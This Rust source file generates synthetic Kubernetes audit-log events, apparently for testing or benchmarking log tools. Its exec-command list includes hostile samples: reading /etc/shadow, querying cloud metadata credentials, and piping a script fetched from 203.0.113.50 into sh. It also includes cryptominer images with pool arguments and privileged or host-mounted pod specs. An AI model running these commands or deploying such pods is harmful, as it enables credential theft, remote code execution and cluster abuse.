//! Kubernetes audit events.

use super::*;

/// Kubernetes audit events (audit.k8s.io/v1 Event), one JSON document per
/// string, no trailing newline. Average size about 1.8 KB.
pub fn k8s_events(n: usize, seed: u64) -> Vec<String> {
    let mut g = K8s {
        r: Rng::new(seed),
        now: START_US,
        rv: 4_812_337,
    };
    (0..n).map(|_| text(&g.event())).collect()
}

const KV: &str = "v1.29.3-eks-adc7111 (linux/amd64) kubernetes/e3a5d4f";
const RBAC: &str = "rbac.authorization.k8s.io";
const NAMESPACES: &[&str] = &[
    "default",
    "kube-system",
    "production",
    "staging",
    "monitoring",
    "payments",
    "argocd",
];
const APPS: &[&str] = &[
    "web", "api", "checkout", "payments", "frontend", "worker", "cart", "search", "redis",
];
const NODES: &[&str] = &[
    "ip-10-0-1-23.ec2.internal",
    "ip-10-0-2-117.ec2.internal",
    "ip-10-0-3-45.ec2.internal",
    "ip-10-0-1-201.ec2.internal",
];
const CONTROLLERS: &[&str] = &[
    "replicaset-controller",
    "deployment-controller",
    "daemon-set-controller",
    "cronjob-controller",
    "job-controller",
    "endpointslice-controller",
    "namespace-controller",
    "generic-garbage-collector",
    "node-controller",
];
/// (namespace, service account, user agent) of in-cluster API clients.
const WORKLOADS: &[(&str, &str, &str)] = &[
    (
        "kube-system",
        "aws-node",
        "aws-node/v1.16.0 (linux/amd64) kubernetes/$Format",
    ),
    (
        "kube-system",
        "coredns",
        "coredns/v1.11.1 (linux/amd64) kubernetes/ae1fb3a",
    ),
    (
        "kube-system",
        "ebs-csi-controller-sa",
        "csi-provisioner/v0.0.0 (linux/amd64) kubernetes/$Format",
    ),
    (
        "kube-system",
        "cluster-autoscaler",
        "cluster-autoscaler/v1.29.0 (linux/amd64) kubernetes/$Format",
    ),
    ("monitoring", "prometheus-server", "Prometheus/2.50.1"),
    (
        "argocd",
        "argocd-application-controller",
        "argocd-application-controller/v2.10.4 (linux/amd64)",
    ),
    ("production", "default", "Go-http-client/2.0"),
];
/// (role, session, role id) of EKS access-entry principals.
const IAM_ROLES: &[(&str, &str, &str)] = &[
    (
        "AWSReservedSSO_AdministratorAccess_6f2c3b1a9e8d7c45",
        "alice@example.com",
        "AROAY5BLEXAMPLEADMIN01",
    ),
    ("DevOps", "bob", "AROAY5BLEXAMPLEDEVOPS2"),
    (
        "github-actions-deployer",
        "GitHubActions",
        "AROAY5BLEXAMPLECIDEPL3",
    ),
];
const KUBECTL: &[&str] = &[
    "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
    "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625",
    "kubectl/v1.28.4 (windows/amd64) kubernetes/bae2c62",
];
const IMAGES: &[(u32, &str)] = &[
    (18, "nginx:1.25.4"),
    (8, "nginx:latest"),
    (10, "redis:7.2-alpine"),
    (6, "busybox:1.36"),
    (4, "busybox"),
    (6, "registry.k8s.io/pause:3.9"),
    (5, "registry.k8s.io/coredns/coredns:v1.11.1"),
    (
        16,
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:v1.2.3",
    ),
    (
        8,
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments-api:2024.06.1",
    ),
    (
        5,
        "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.16.0",
    ),
    (5, "postgres:16.2"),
    (5, "quay.io/prometheus/node-exporter:v1.7.0"),
    (4, "fluent/fluent-bit:2.2.2"),
    (3, "alpine:3.19"),
    (2, "curlimages/curl:8.6.0"),
    (1, "xmrig/xmrig:latest"),
    (1, "metal3d/xmrig:latest"),
];
const HOST_PATHS: &[(&str, &str)] = &[
    ("/var/run/docker.sock", "Socket"),
    ("/etc", "Directory"),
    ("/", ""),
    ("/var/log", "Directory"),
    ("/proc", "Directory"),
    ("/run/containerd/containerd.sock", "Socket"),
];
const COMMANDS: &[&[&str]] = &[
    &["sh"],
    &["/bin/bash"],
    &["env"],
    &["ps", "aux"],
    &["redis-cli", "info"],
    &["cat", "/etc/nginx/nginx.conf"],
    &["ls", "/var/run/secrets/kubernetes.io/serviceaccount"],
    &["sh", "-c", "cat /etc/shadow"],
    &[
        "sh",
        "-c",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ],
    &["sh", "-c", "wget -qO- http://203.0.113.50/x.sh | sh"],
];
/// (resource, API group, namespaced); every one is served at version v1.
const RESOURCES: &[(&str, &str, bool)] = &[
    ("pods", "", true),
    ("secrets", "", true),
    ("configmaps", "", true),
    ("services", "", true),
    ("events", "", true),
    ("namespaces", "", false),
    ("nodes", "", false),
    ("deployments", "apps", true),
    ("daemonsets", "apps", true),
    ("cronjobs", "batch", true),
    ("leases", "coordination.k8s.io", true),
    ("rolebindings", RBAC, true),
    ("clusterrolebindings", RBAC, false),
    ("clusterroles", RBAC, false),
];
const READS: &[(u32, &str)] = &[
    (22, "pods"),
    (8, "secrets"),
    (12, "configmaps"),
    (8, "services"),
    (6, "events"),
    (4, "namespaces"),
    (10, "nodes"),
    (8, "deployments"),
    (4, "daemonsets"),
    (3, "cronjobs"),
    (8, "leases"),
    (3, "rolebindings"),
    (2, "clusterrolebindings"),
    (2, "clusterroles"),
];

/// What a request targets: its objectRef and the path of its requestURI.
struct Target {
    res: &'static str,
    group: &'static str,
    ns: Option<String>,
    name: Option<String>,
    sub: Option<&'static str>,
}

impl Target {
    fn uri(&self, query: &str) -> String {
        let mut s = if self.group.is_empty() {
            "/api/v1".to_string()
        } else {
            format!("/apis/{}/v1", self.group)
        };
        if let Some(ns) = self.ns.as_ref().filter(|_| self.res != "namespaces") {
            s += &format!("/namespaces/{ns}");
        }
        for part in [Some(self.res), self.name.as_deref(), self.sub]
            .into_iter()
            .flatten()
        {
            s += &format!("/{part}");
        }
        if !query.is_empty() {
            s += &format!("?{query}");
        }
        s
    }
    fn object_ref(&self) -> Value {
        let group = Some(self.group).filter(|g| !g.is_empty());
        compact(
            json!({"resource": self.res, "namespace": self.ns, "name": self.name, "apiGroup": group,
            "apiVersion": "v1", "subresource": self.sub}),
        )
    }
    /// `pods "web-1"`, `deployments.apps "api"` or `secrets`, as API messages name things.
    fn what(&self) -> String {
        let gr = if self.group.is_empty() {
            self.res.to_string()
        } else {
            format!("{}.{}", self.res, self.group)
        };
        self.name
            .as_ref()
            .map_or(gr.clone(), |n| format!("{gr} \"{n}\""))
    }
}

/// The failure reason and message of an unsuccessful response.
fn failure(
    code: u16,
    verb: &str,
    user: &str,
    t: Option<&Target>,
    uri: &str,
) -> Option<(&'static str, String)> {
    let what = t.map(Target::what).unwrap_or_default();
    Some(match (code, t) {
        (401, _) => ("Unauthorized", "Unauthorized".into()),
        (403, None) => ("Forbidden", format!("forbidden: User \"{user}\" cannot {verb} path \"{uri}\"")),
        (403, Some(t)) => {
            let scope = t.ns.as_ref().map_or("at the cluster scope".into(), |ns| format!("in the namespace \"{ns}\""));
            let res = t.sub.map_or(t.res.to_string(), |s| format!("{}/{s}", t.res));
            let why = format!("cannot {verb} resource \"{res}\" in API group \"{}\" {scope}", t.group);
            ("Forbidden", format!("{what} is forbidden: User \"{user}\" {why}"))
        }
        (404, _) => ("NotFound", format!("{what} not found")),
        (409, _) if verb == "create" => ("AlreadyExists", format!("{what} already exists")),
        (409, _) => ("Conflict", format!("Operation cannot be fulfilled on {what}: the object has been modified; please apply your changes to the latest version and try again")),
        (500, _) => ("InternalError", "Internal error occurred: failed calling webhook \"vpc.k8s.aws\": context deadline exceeded".into()),
        (503, _) => ("ServiceUnavailable", "the server is currently unable to handle the request".into()),
        (504, _) => ("Timeout", "Timeout: request did not complete within requested timeout - context deadline exceeded".into()),
        _ => return None,
    })
}

/// A requester: an authenticated user, or nobody (empty name) on a 401.
struct Who {
    name: String,
    uid: Option<String>,
    groups: Vec<String>,
    extra: Option<Value>,
    agent: String,
    ips: Vec<String>,
    reason: String,
}

impl Who {
    fn new(name: &str, groups: &[&str], agent: &str, ips: Vec<String>, reason: String) -> Who {
        let groups = groups.iter().map(|g| g.to_string()).collect();
        Who {
            name: name.into(),
            uid: None,
            groups,
            extra: None,
            agent: agent.into(),
            ips,
            reason,
        }
    }
    fn user(&self) -> Value {
        if self.name.is_empty() {
            return json!({});
        }
        compact(
            json!({"username": self.name, "uid": self.uid, "groups": self.groups, "extra": self.extra}),
        )
    }
}

fn rbac(binding: &str, role: &str, subject: &str) -> String {
    format!(
        "RBAC: allowed by ClusterRoleBinding \"{binding}\" of ClusterRole \"{role}\" to {subject}"
    )
}

/// `user.extra` of an IAM principal authenticated by aws-iam-authenticator.
fn eks_extra(key: &str, arn: &str, canonical: &str, pid: &str, session: &str) -> Option<Value> {
    Some(
        json!({"accessKeyId": [key], "arn": [arn], "canonicalArn": [canonical], "principalId": [pid],
        "sessionName": [session], "sigs.k8s.io/aws-iam-authenticator/principalId": [pid]}),
    )
}

#[derive(Clone, Copy)]
enum As {
    Controller,
    Control,
    Node,
    Workload,
    Iam,
    Oidc,
    Admin,
    Anonymous,
}
const HUMANS: &[(u32, As)] = &[(40, As::Iam), (35, As::Oidc), (25, As::Admin)];

// ---- Kubernetes: generator ----------------------------------------------------

struct K8s {
    r: Rng,
    now: i64,
    rv: u64,
}

type Gen = fn(&mut K8s) -> Value;
const MIX: &[(u32, Gen)] = &[
    (585, K8s::read),
    (130, K8s::lease),
    (25, K8s::non_resource),
    (15, K8s::anonymous),
    (15, K8s::exec),
    (15, K8s::forbidden),
    (75, K8s::create_pod),
    (45, K8s::create_workload),
    (12, K8s::create_rbac),
    (18, K8s::create_other),
    (25, K8s::patch),
    (40, K8s::delete),
];

impl K8s {
    fn event(&mut self) -> Value {
        self.now += self.r.range(1_000, 120_000) as i64;
        self.rv += self.r.range(1, 7);
        let gen = self.r.weighted(MIX);
        gen(self)
    }

    fn who(&mut self, mix: &[(u32, As)]) -> Who {
        let r = &mut self.r;
        let public = |r: &mut Rng| {
            if r.odds(300) {
                vec![r.public_ip(), r.private_ip()]
            } else {
                vec![r.public_ip()]
            }
        };
        let x509 = |who: &str| {
            Some(
                json!({"authentication.kubernetes.io/credential-id": [format!("X509SHA256={}", Rng::of(who).hex(64))]}),
            )
        };
        match r.weighted(mix) {
            As::Controller => {
                let c = r.pick(CONTROLLERS);
                self.controller(c)
            }
            As::Control => {
                let c = r.pick(&["kube-controller-manager", "kube-scheduler"]);
                let name = format!("system:{c}");
                let ips = vec![r.pick(&["10.0.0.17", "10.0.32.146"]).to_string()];
                let reason = rbac(&name, &name, &format!("User \"{name}\""));
                let agent = format!("{c}/{KV}/leader-election");
                Who {
                    extra: x509(c),
                    ..Who::new(&name, &["system:authenticated"], &agent, ips, reason)
                }
            }
            As::Node => {
                let node = r.pick(NODES);
                let inst = format!("i-0{}", Rng::of(node).hex(16));
                let pid = "AROAY5BLEXAMPLENODEGR4";
                let ip = node
                    .trim_start_matches("ip-")
                    .split('.')
                    .next()
                    .unwrap_or_default()
                    .replace('-', ".");
                let groups = [
                    "system:bootstrappers",
                    "system:nodes",
                    "system:authenticated",
                ];
                let arn = format!("arn:aws:sts::{ACCT}:assumed-role/eks-node-group-role/{inst}");
                let canonical = format!("arn:aws:iam::{ACCT}:role/eks-node-group-role");
                let key = format!("ASIA{}", Rng::of(&inst).upper(16));
                Who {
                    uid: Some(format!("aws-iam-authenticator:{ACCT}:{pid}")),
                    extra: eks_extra(&key, &arn, &canonical, pid, &inst),
                    ..Who::new(
                        &format!("system:node:{node}"),
                        &groups,
                        &format!("kubelet/{KV}"),
                        vec![ip],
                        String::new(),
                    )
                }
            }
            As::Workload => {
                let (ns, sa, agent) = r.pick(WORKLOADS);
                let name = format!("system:serviceaccount:{ns}:{sa}");
                let node = r.pick(NODES);
                let extra = json!({"authentication.kubernetes.io/credential-id": [format!("JTI={}", r.uuid())],
                    "authentication.kubernetes.io/node-name": [node], "authentication.kubernetes.io/node-uid": [Rng::of(node).uuid()],
                    "authentication.kubernetes.io/pod-name": [format!("{sa}-{}", Rng::of(sa).hex(5))],
                    "authentication.kubernetes.io/pod-uid": [Rng::of(&name).uuid()]});
                let groups = [
                    "system:serviceaccounts",
                    &format!("system:serviceaccounts:{ns}"),
                    "system:authenticated",
                ];
                let reason = rbac(sa, sa, &format!("ServiceAccount \"{sa}/{ns}\""));
                let base = Who::new(&name, &groups, agent, vec![r.private_ip()], reason);
                Who {
                    uid: Some(Rng::of(&name).uuid()),
                    extra: Some(extra),
                    ..base
                }
            }
            As::Iam => {
                let (role, session, pid) = r.pick(IAM_ROLES);
                let name = format!("arn:aws:sts::{ACCT}:assumed-role/{role}/{session}");
                let canonical = format!("arn:aws:iam::{ACCT}:role/{role}");
                let policy = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy";
                let reason = format!("EKS Access Policy: allowed by ClusterRoleBinding \"{canonical}+{policy}\" of ClusterRole \"{policy}\" to User \"{name}\"");
                let agent = if r.odds(150) {
                    "Helm/3.14.2"
                } else {
                    r.pick(KUBECTL)
                };
                let key = format!("ASIA{}", Rng::of(session).upper(16));
                Who {
                    uid: Some(format!("aws-iam-authenticator:{ACCT}:{pid}")),
                    extra: eks_extra(&key, &name, &canonical, pid, session),
                    ..Who::new(&name, &["system:authenticated"], agent, public(r), reason)
                }
            }
            As::Oidc => {
                let (name, group, role) = r.pick(&[
                    ("alice@example.com", "platform-team", "cluster-admin"),
                    ("dave@example.com", "developers", "edit"),
                    ("erin@example.com", "developers", "edit"),
                ]);
                let reason = rbac(
                    &format!("{group}-{role}"),
                    role,
                    &format!("Group \"{group}\""),
                );
                Who::new(
                    name,
                    &[group, "system:authenticated"],
                    r.pick(KUBECTL),
                    public(r),
                    reason,
                )
            }
            As::Admin => {
                let base = Who::new(
                    "kubernetes-admin",
                    &["system:masters", "system:authenticated"],
                    r.pick(KUBECTL),
                    public(r),
                    String::new(),
                );
                Who {
                    extra: x509("kubernetes-admin"),
                    ..base
                }
            }
            As::Anonymous => {
                let agent = r.pick(&[
                    "curl/8.5.0",
                    "python-requests/2.31.0",
                    "Go-http-client/1.1",
                    "Mozilla/5.0 zgrab/0.x",
                    "ELB-HealthChecker/2.0",
                ]);
                let reason = rbac(
                    "system:public-info-viewer",
                    "system:public-info-viewer",
                    "Group \"system:unauthenticated\"",
                );
                Who::new(
                    "system:anonymous",
                    &["system:unauthenticated"],
                    agent,
                    vec![r.public_ip()],
                    reason,
                )
            }
        }
    }

    fn controller(&mut self, c: &str) -> Who {
        let name = format!("system:serviceaccount:kube-system:{c}");
        let groups = [
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ];
        let agent = format!("kube-controller-manager/{KV}/{name}");
        let ips = vec![self.r.pick(&["10.0.0.17", "10.0.32.146"]).to_string()];
        let role = format!("system:controller:{c}");
        let reason = rbac(&role, &role, &format!("ServiceAccount \"{c}/kube-system\""));
        Who {
            uid: Some(Rng::of(&name).uuid()),
            ..Who::new(&name, &groups, &agent, ips, reason)
        }
    }

    fn pod_name(&mut self, app: &str) -> String {
        format!(
            "{app}-{}-{}",
            self.r.hex(10),
            self.r.chars(5, b"bcdfghjklmnpqrstvwxz2456789")
        )
    }

    /// A target on `res`: `named` for single-object verbs; `wide` allows all namespaces.
    fn target(&mut self, res: &'static str, named: bool, wide: bool) -> Target {
        let &(res, group, namespaced) = RESOURCES
            .iter()
            .find(|x| x.0 == res)
            .unwrap_or(&RESOURCES[0]);
        let app = self.r.pick(APPS);
        let name = named.then(|| match res {
            "pods" => self.pod_name(app),
            "events" => format!("{}.{}", self.pod_name(app), self.r.hex(16)),
            "secrets" => format!("{app}-{}", self.r.pick(&["credentials", "tls", "token"])),
            "configmaps" if self.r.odds(300) => "kube-root-ca.crt".into(),
            "configmaps" => format!("{app}-config"),
            "nodes" => self.r.pick(NODES).into(),
            "namespaces" => self.r.pick(NAMESPACES).into(),
            "clusterroles" => self
                .r
                .pick(&[
                    "cluster-admin",
                    "view",
                    "edit",
                    "admin",
                    "system:aggregate-to-view",
                ])
                .into(),
            "clusterrolebindings" => self
                .r
                .pick(&["cluster-admin", "system:node-proxier", "eks:addon-manager"])
                .into(),
            "daemonsets" => self
                .r
                .pick(&["aws-node", "kube-proxy", "fluent-bit", "node-exporter"])
                .into(),
            _ => app.into(),
        });
        let ns = match (namespaced, res) {
            (false, "namespaces") => name.clone(),
            (false, _) => None,
            (true, _) if wide && self.r.odds(400) => None,
            (true, _) => Some(self.r.pick(NAMESPACES).to_string()),
        };
        Target {
            res,
            group,
            ns,
            name,
            sub: None,
        }
    }

    /// The success code, or now and then a failure the verb can meet.
    fn code(&mut self, ok: u16, verb: &str) -> u16 {
        match (self.r.range(0, 999), verb) {
            (0..=3, v) if v != "watch" => self.r.pick(&[500, 503, 504]),
            (4..=20, "get" | "delete") => 404,
            (4..=14, "update" | "patch" | "create") => 409,
            _ => ok,
        }
    }

    /// The event without bodies.
    fn emit(
        &mut self,
        who: &Who,
        verb: &'static str,
        t: Option<&Target>,
        uri: String,
        level: &str,
        code: u16,
    ) -> Value {
        let stage = match (code, verb) {
            (101 | 401, _) => "ResponseStarted",
            (_, "watch") if self.r.odds(500) => "ResponseStarted",
            _ => "ResponseComplete",
        };
        let latency = match (stage, verb) {
            ("ResponseComplete", "watch") => self.r.range(60_000_000, 600_000_000),
            ("ResponseStarted", _) => self.r.range(300, 3_000),
            (_, "get" | "list") => self.r.range(800, 12_000),
            _ => self.r.range(2_000, 60_000),
        } as i64;
        let mut status = json!({"metadata": {}, "code": code});
        if let Some((reason, message)) = failure(code, verb, &who.name, t, &uri) {
            status = json!({"metadata": {}, "status": "Failure", "message": message, "reason": reason, "code": code});
            if let Some(t) = t {
                let group = Some(t.group).filter(|g| !g.is_empty());
                status["details"] = compact(json!({"name": t.name, "group": group, "kind": t.res}));
            }
        }
        let mut ev = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": self.r.uuid(), "stage": stage,
            "requestURI": uri, "verb": verb, "user": who.user(), "sourceIPs": who.ips, "userAgent": who.agent,
            "responseStatus": status, "requestReceivedTimestamp": stamp(self.now - latency, true),
            "stageTimestamp": stamp(self.now, true),
        });
        if let Some(t) = t {
            ev["objectRef"] = t.object_ref();
        }
        if code >= 400 && level == "RequestResponse" {
            let mut body = ev["responseStatus"].clone();
            body["kind"] = json!("Status");
            body["apiVersion"] = json!("v1");
            ev["responseObject"] = body;
        }
        if code != 401 {
            let (decision, why) = if code == 403 {
                ("forbid", "")
            } else {
                ("allow", who.reason.as_str())
            };
            ev["annotations"] = json!({"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": why});
        }
        ev
    }

    /// Adds the request body and, at RequestResponse on success, the stored object.
    fn bodies(&mut self, mut ev: Value, obj: Value) -> Value {
        if ev["responseStatus"]["code"]
            .as_u64()
            .is_some_and(|c| c < 300)
            && ev["level"] == "RequestResponse"
        {
            let mut stored = obj.clone();
            stored["metadata"]["uid"] = json!(self.r.uuid());
            stored["metadata"]["resourceVersion"] = json!(self.rv.to_string());
            stored["metadata"]["creationTimestamp"] = json!(stamp(self.now, false));
            ev["responseObject"] = stored;
        }
        if ev["level"] != "Metadata" {
            ev["requestObject"] = obj;
        }
        ev
    }

    fn read(&mut self) -> Value {
        let who = self.who(&[
            (30, As::Node),
            (28, As::Controller),
            (22, As::Workload),
            (4, As::Control),
            (16, As::Iam),
        ]);
        let res = self.r.weighted(READS);
        let verb = self.r.weighted(&[(45, "get"), (22, "list"), (33, "watch")]);
        let t = self.target(res, verb == "get", true);
        let secs = self.r.range(300, 600);
        let query = match verb {
            "get" => String::new(),
            "list" if who.agent.starts_with("kubectl") => "limit=500".into(),
            "list" => "resourceVersion=0".into(),
            _ => format!("allowWatchBookmarks=true&resourceVersion={}&timeout={}m{}s&timeoutSeconds={secs}&watch=true",
                self.rv - 900, secs / 60, secs % 60),
        };
        let code = self.code(200, verb);
        self.emit(&who, verb, Some(&t), t.uri(&query), "Metadata", code)
    }

    fn lease(&mut self) -> Value {
        let who = self.who(&[(60, As::Node), (40, As::Control)]);
        let (ns, holder) = match who.name.strip_prefix("system:node:") {
            Some(node) => ("kube-node-lease", node.to_string()),
            None => (
                "kube-system",
                who.name.trim_start_matches("system:").to_string(),
            ),
        };
        let t = Target {
            res: "leases",
            group: "coordination.k8s.io",
            ns: Some(ns.into()),
            name: Some(holder.clone()),
            sub: None,
        };
        let level = if self.r.odds(650) {
            "RequestResponse"
        } else {
            "Metadata"
        };
        let code = self.code(200, "update");
        let ev = self.emit(&who, "update", Some(&t), t.uri("timeout=10s"), level, code);
        let fields = json!({"f:spec": {"f:acquireTime": {}, "f:holderIdentity": {}, "f:leaseDurationSeconds": {}, "f:renewTime": {}}});
        let managed = json!([{"manager": holder, "operation": "Update", "apiVersion": "coordination.k8s.io/v1",
            "time": stamp(self.now - 10_000_000, false), "fieldsType": "FieldsV1", "fieldsV1": fields}]);
        let obj = json!({"kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
            "metadata": {"name": holder, "namespace": ns, "uid": Rng::of(&holder).uuid(), "resourceVersion": (self.rv - 40).to_string(),
                "creationTimestamp": "2024-05-21T07:14:03Z", "managedFields": managed},
            "spec": {"holderIdentity": format!("{holder}_{}", Rng::of(&holder).uuid()), "leaseDurationSeconds": 15,
                "acquireTime": "2024-05-21T07:14:03.114027Z", "renewTime": stamp(self.now - 2_000, true), "leaseTransitions": 2}});
        self.bodies(ev, obj)
    }

    fn non_resource(&mut self) -> Value {
        let who = self.who(&[
            (30, As::Anonymous),
            (25, As::Node),
            (15, As::Workload),
            (15, As::Iam),
            (15, As::Control),
        ]);
        let path = self.r.pick(&[
            "/healthz",
            "/readyz",
            "/livez",
            "/version",
            "/version",
            "/metrics",
            "/openapi/v2",
            "/api",
        ]);
        let public = ["/healthz", "/readyz", "/livez", "/version"].contains(&path);
        let code = if who.name == "system:anonymous" && !public {
            403
        } else {
            self.code(200, "list")
        };
        self.emit(&who, "get", None, path.to_string(), "Metadata", code)
    }

    /// Anonymous probes: mostly forbidden, some 401s, a few allowed by a careless binding.
    fn anonymous(&mut self) -> Value {
        let mut who = self.who(&[(1, As::Anonymous)]);
        let verb = self.r.pick(&["get", "list", "list"]);
        let res = self
            .r
            .pick(&["pods", "secrets", "nodes", "namespaces", "configmaps"]);
        let t = self.target(res, verb == "get", true);
        let code = self.r.weighted(&[(60, 403), (25, 401), (15, 200)]);
        who.reason = rbac("anonymous-view", "view", "User \"system:anonymous\"");
        if code == 401 {
            who.name.clear();
        }
        self.emit(&who, verb, Some(&t), t.uri(""), "Metadata", code)
    }

    fn exec(&mut self) -> Value {
        let who = self.who(&[
            (40, As::Iam),
            (25, As::Oidc),
            (25, As::Admin),
            (10, As::Workload),
        ]);
        let mut t = self.target("pods", true, false);
        let container = t
            .name
            .as_deref()
            .and_then(|n| n.split('-').next())
            .unwrap_or("app")
            .to_string();
        let exec = self.r.odds(850);
        t.sub = Some(if exec { "exec" } else { "attach" });
        let mut q = String::new();
        if exec {
            q = self
                .r
                .pick(COMMANDS)
                .iter()
                .map(|c| format!("command={}&", query_escape(c)))
                .collect();
        }
        q += &format!("container={container}");
        q += if self.r.odds(700) {
            "&stdin=true&stdout=true&tty=true"
        } else {
            "&stderr=true&stdout=true"
        };
        let verb = if self.r.odds(900) { "create" } else { "get" };
        let code = if self.r.odds(60) { 403 } else { 101 };
        self.emit(&who, verb, Some(&t), t.uri(&q), "Metadata", code)
    }

    fn forbidden(&mut self) -> Value {
        let who = self.who(&[
            (40, As::Workload),
            (30, As::Oidc),
            (20, As::Iam),
            (10, As::Node),
        ]);
        let (verb, res, named) = self.r.pick(&[
            ("get", "secrets", true),
            ("list", "secrets", false),
            ("create", "clusterrolebindings", false),
            ("list", "nodes", false),
            ("delete", "pods", true),
            ("patch", "deployments", true),
            ("create", "pods", false),
        ]);
        let t = self.target(res, named, verb == "list");
        let level = if self.r.odds(300) {
            "RequestResponse"
        } else {
            "Metadata"
        };
        self.emit(&who, verb, Some(&t), t.uri(""), level, 403)
    }

    /// A pod spec; `host` raises the odds of host access (daemonsets).
    /// Also returns the Pod Security violations it would cause.
    fn pod_spec(&mut self, app: &str, host: u64) -> (Value, Vec<String>) {
        let r = &mut self.r;
        let (mut bad, mut volumes, mut mounts) = (Vec::new(), Vec::new(), Vec::new());
        let token = json!({"sources": [{"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}]});
        for (odds, vol, path) in [
            (
                400,
                json!({"name": "config", "configMap": {"name": format!("{app}-config"), "defaultMode": 420}}),
                "/etc/config",
            ),
            (
                300,
                json!({"name": "tls", "secret": {"secretName": format!("{app}-tls"), "defaultMode": 420}}),
                "/etc/tls",
            ),
            (
                300,
                json!({"name": "cache", "emptyDir": {"sizeLimit": "1Gi"}}),
                "/cache",
            ),
            (
                150,
                json!({"name": "aws-iam-token", "projected": token}),
                "/var/run/secrets/eks.amazonaws.com/serviceaccount",
            ),
        ] {
            if r.odds(odds) {
                mounts.push(json!({"name": vol["name"], "mountPath": path, "readOnly": true}));
                volumes.push(vol);
            }
        }
        if r.odds(50 + host) {
            let (path, kind) = r.pick(HOST_PATHS);
            volumes.push(json!({"name": "host", "hostPath": {"path": path, "type": kind}}));
            mounts.push(json!({"name": "host", "mountPath": format!("/host{path}")}));
            bad.push("hostPath volumes (volume \"host\")".to_string());
        }
        let mut containers = Vec::new();
        for i in 0..r.weighted(&[(70, 1), (25, 2), (5, 3)]) {
            let name = if i == 0 {
                app
            } else {
                r.pick(&["istio-proxy", "log-shipper", "metrics-exporter"])
            };
            let image = r.weighted(IMAGES);
            let mut c = json!({"name": name, "image": image, "imagePullPolicy": r.pick(&["IfNotPresent", "Always"])});
            if image.contains("xmrig") {
                c["args"] = json!([
                    "-o",
                    "pool.supportxmr.com:443",
                    "-u",
                    format!("4{}", r.upper(40)),
                    "--tls"
                ]);
            } else if r.odds(350) {
                c["command"] = json!(["/bin/sh", "-c"]);
                c["args"] = json!([r.pick(&[
                    "exec nginx -g 'daemon off;'",
                    "python -m app.server",
                    "sleep 3600"
                ])]);
            }
            let probe = json!({"httpGet": {"path": "/healthz", "port": 8080}, "periodSeconds": 10, "failureThreshold": 3});
            for (key, odds, value) in [
                (
                    "ports",
                    600,
                    json!([{"name": "http", "containerPort": r.pick(&[80, 8080, 6379, 9090]), "protocol": "TCP"}]),
                ),
                (
                    "env",
                    600,
                    json!([{"name": "LOG_LEVEL", "value": "info"},
                    {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": format!("{app}-credentials"), "key": "password"}}}]),
                ),
                (
                    "resources",
                    700,
                    json!({"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"cpu": "500m", "memory": "512Mi"}}),
                ),
                ("livenessProbe", 500, probe.clone()),
                ("readinessProbe", 500, probe),
                (
                    "volumeMounts",
                    if mounts.is_empty() { 0 } else { 1000 },
                    json!(mounts),
                ),
            ] {
                if r.odds(odds) {
                    c[key] = value;
                }
            }
            if r.odds(40 + host / 3) {
                c["securityContext"] = json!({"privileged": true});
                bad.push(format!("privileged (container \"{name}\" must not set securityContext.privileged=true)"));
            } else if r.odds(30) {
                let cap = r.pick(&["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"]);
                c["securityContext"] = json!({"capabilities": {"add": [cap]}, "allowPrivilegeEscalation": true, "runAsUser": 0});
                bad.push(format!("non-default capabilities (container \"{name}\" must not include \"{cap}\" in securityContext.capabilities.add)"));
            } else if r.odds(400) {
                c["securityContext"] = json!({"allowPrivilegeEscalation": false, "runAsNonRoot": true, "runAsUser": 1000,
                    "readOnlyRootFilesystem": true, "capabilities": {"drop": ["ALL"]}});
            }
            containers.push(c);
        }
        let mut spec = json!({"containers": containers, "restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "terminationGracePeriodSeconds": 30});
        if !volumes.is_empty() {
            spec["volumes"] = json!(volumes);
        }
        for (key, odds) in [
            ("hostNetwork", 30 + host / 2),
            ("hostPID", 20),
            ("hostIPC", 10),
        ] {
            if r.odds(odds) {
                spec[key] = json!(true);
                bad.push(format!("host namespaces ({key}=true)"));
            }
        }
        for (key, odds, value) in [
            ("serviceAccountName", 700, json!(format!("{app}-sa"))),
            (
                "nodeSelector",
                300,
                json!({"kubernetes.io/os": "linux", "eks.amazonaws.com/nodegroup": "ng-general"}),
            ),
            (
                "tolerations",
                250,
                json!([{"key": "dedicated", "operator": "Equal", "value": app, "effect": "NoSchedule"}]),
            ),
            (
                "securityContext",
                300,
                json!({"runAsNonRoot": true, "runAsUser": 1000, "fsGroup": 2000, "seccompProfile": {"type": "RuntimeDefault"}}),
            ),
        ] {
            if r.odds(odds) {
                spec[key] = value;
            }
        }
        (spec, bad)
    }

    fn meta(&mut self, name: &str, ns: Option<&str>, app: &str) -> Value {
        let by = self.r.pick(&["kubectl", "Helm", "argocd"]);
        let labels = json!({"app.kubernetes.io/name": app, "app.kubernetes.io/part-of": "shop", "app.kubernetes.io/managed-by": by});
        compact(json!({"name": name, "namespace": ns, "labels": labels}))
    }

    /// A create by a person; `kubectl apply` keeps the object in an annotation.
    fn human_create(&mut self, t: &Target, mut obj: Value, issues: &[String]) -> Value {
        let who = self.who(HUMANS);
        let apply = self.r.odds(500);
        if apply {
            let applied = format!("{obj}\n");
            obj["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] =
                json!(applied);
        }
        let manager = if apply {
            "kubectl-client-side-apply"
        } else {
            "kubectl-create"
        };
        let level = if self.r.odds(450) {
            "RequestResponse"
        } else {
            "Request"
        };
        let code = self.code(201, "create");
        let mut ev = self.emit(
            &who,
            "create",
            Some(t),
            t.uri(&format!("fieldManager={manager}&fieldValidation=Strict")),
            level,
            code,
        );
        pod_security(&mut ev, issues, t.res);
